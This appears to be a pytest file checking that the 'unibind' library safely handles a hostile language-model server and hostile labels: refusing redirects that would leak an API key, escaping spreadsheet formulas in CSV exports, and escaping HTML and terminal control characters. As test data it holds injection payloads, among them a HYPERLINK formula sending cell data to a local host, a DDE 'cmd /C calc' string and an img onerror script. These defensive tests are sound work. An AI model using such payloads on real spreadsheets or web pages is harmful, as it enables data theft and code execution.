"""A language-model server that is not what it seems, through the command and through Python."""

import csv
import json

import pytest
from markdown_it import MarkdownIt

import unibind
from tests.helpers.command import run, run_json
from tests.helpers.llm_server import LLMServer, Turn, descriptions
from tests.helpers.registered import entry, register, spec
from tests.helpers.toys import ToyBackbone
from unibind.data.tables import read_rows
from unibind.errors import UnibindError, printable
from unibind.knowledge import KnowledgeBase

KEY = "sk-very-secret-1234567890"
PROGRAM = '=HYPERLINK("http://127.0.0.1:1/?"&A1,"The drum is a round box with a tight skin on top")'
TEXTS = [
    PROGRAM,
    "@SUM(1+1)*cmd|' /C calc'!A0 is not the sound that a drum makes in the yard.",
    "-2+3 sticks hit the skin of the drum, and its shell of wood answers.",
    "<img src=x onerror=alert(1)> The drum stands on three legs in the corner.</script>",
    "A drum of brass \x1b]0;owned\x07 shines \u202eunder the lamp\u202c of the stage.",
]


@pytest.fixture(autouse=True)
def toy(monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    register(monkeypatch, entry("toy", spec("toy", lambda *_, **options: ToyBackbone(), modalities=("image", "text"))))


@pytest.mark.slow
@pytest.mark.parametrize("status", [301, 307, 308])
def test_prompts_and_key_go_to_no_server_that_was_not_named(tmp_path, status):
    with LLMServer() as named, LLMServer() as other:
        named.answer = lambda _: Turn(
            status=status, headers={"Location": f"{other.base_url}/chat/completions?\x1b{KEY}"}
        )
        arguments = {"model": "m", "base_url": named.base_url, "per_class": 4, "modalities": ["image"]}
        with pytest.raises(UnibindError, match="redirects requests to") as caught:
            KnowledgeBase.generate(["drum"], tmp_path / "python", progress=False, **arguments)
        options = ("--model", "m", "--base-url", named.base_url, "--per-class", 4, "-m", "image")
        shown = run("knowledge", "generate", "drum", "--out", tmp_path / "cli", *options, code=2)
        assert "pass its address with --base-url" in shown.stderr
        assert shown.stderr.count("\n") == 1
        assert not other.requests
        assert named.keys == [f"Bearer {KEY}"] * 2  # one request each
    for text in (str(caught.value), shown.stderr):
        assert KEY not in text
    assert "\x1b" not in shown.stderr


LABELS = [
    "<img src=x onerror=alert(1)>",
    "[win](http://127.0.0.1:1) www.example.org `rm` | x",
    "a\n\n# Title\n\n![x](http://127.0.0.1:1/x.png)\x1b[31m",
    "polar_bear *and* friends & Co. \u202e",
]


def test_a_model_card_shows_names_and_does_nothing(tmp_path):
    model = unibind.UniBind.zero_shot(LABELS, backbone=ToyBackbone())
    model.save_pretrained(tmp_path / "model")
    card = (tmp_path / "model" / "README.md").read_text(encoding="utf-8").split("---\n", 2)[2]
    blocks = MarkdownIt("gfm-like", {"linkify": False}).parse(card)
    inline = [part for block in blocks for part in block.children or ()]
    assert {part.type for part in inline} <= {"text", "text_special", "softbreak"}
    assert [block.tag for block in blocks if block.type == "heading_open"] == ["h1"]
    assert not [block for block in blocks if "html" in block.type]
    shown = "".join(part.content for part in inline)
    for label in LABELS:
        assert printable(label) in shown


@pytest.fixture(scope="module")
def base(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")

    def answer(request):
        if "Ask good questions" in request["messages"][-1]["content"]:
            return json.dumps({"questions": [{"aspect": "=1+1", "question": "Which color does it have?"}]})
        return descriptions(*TEXTS)

    with LLMServer(answer) as server:
        options = ("--model", "m", "--base-url", server.base_url, "--per-class", 5, "-m", "image")
        run("knowledge", "generate", "drum", "--out", folder / "kb", "--max-similarity", 0, *options)
    return folder / "kb"


@pytest.mark.slow
def test_texts_of_a_server_are_no_programs_in_a_table(base, tmp_path):
    run("knowledge", "export", base, tmp_path / "kb.csv")
    with (tmp_path / "kb.csv").open(newline="", encoding="utf-8") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert f"'{PROGRAM}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    stored = {d.id: d.text for d in KnowledgeBase.load(base).descriptions}
    assert PROGRAM in stored.values()
    assert {d.id: d.text for d in KnowledgeBase.load(tmp_path / "kb.csv").descriptions} == stored


@pytest.mark.slow
def test_labels_and_ids_are_no_programs_in_results_and_exports(tmp_path):
    rows = [
        {"id": "@one", "text": "red", "label": "=1+1"},
        {"id": "-two", "text": "green", "label": "-1"},
        {"id": "three", "text": "blue", "label": "'+'"},
    ]
    unibind.encode(rows, tmp_path / "store", backbone=ToyBackbone(), progress=False)
    run("search", "red", "--store", tmp_path / "store", "--out", tmp_path / "hits.csv")
    run("export", tmp_path / "store", "--to", "npy", "--out", tmp_path / "npy")
    for table in (tmp_path / "hits.csv", tmp_path / "npy" / "items.csv"):
        with table.open(newline="", encoding="utf-8") as file:
            found = {(row["id"], row["label"]) for row in csv.DictReader(file)}
        assert found == {("'@one", "'=1+1"), ("'-two", "-1"), ("three", "'+'")}
        columns = ("id", "label")
        read = {tuple(cells[name] for name in columns) for _, cells in read_rows(table, columns)}
        assert read == {(row["id"], row["label"]) for row in rows}


@pytest.mark.slow
def test_texts_of_a_server_do_nothing_on_a_terminal_or_a_page(base, tmp_path):
    shown = run("knowledge", "show", base, "--html", tmp_path / "kb.html", "--backbone", "toy")
    assert all(character.isprintable() or character == "\n" for character in shown.stdout + shown.stderr)
    page = (tmp_path / "kb.html").read_text(encoding="utf-8")
    assert "&lt;img src=x onerror" in page
    assert "<img src=x" not in page
    assert run_json("knowledge", "show", base)
